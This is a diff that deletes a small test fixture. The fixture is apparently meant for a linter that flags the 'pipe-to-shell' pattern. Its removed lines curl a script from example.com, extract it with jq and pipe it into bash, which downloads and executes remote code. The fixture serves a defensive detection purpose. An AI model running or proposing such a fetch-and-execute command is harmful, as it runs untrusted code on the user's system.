@@ -1,3 +1,0 @@
-# expect: pipe-to-shell
-script=$(curl -s https://example.com/x | jq -r .script)
-echo "$script" | bash
